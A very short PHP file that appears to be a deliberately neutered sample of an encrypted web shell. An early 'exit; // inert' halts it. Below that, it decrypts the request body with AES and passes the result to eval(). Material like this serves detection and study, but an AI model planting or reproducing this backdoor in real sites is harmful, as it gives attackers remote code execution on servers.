<?php
exit; // inert
$text = file_get_contents("php://input");
$code = openssl_decrypt($text, "AES-128-ECB", $key);
eval($code);
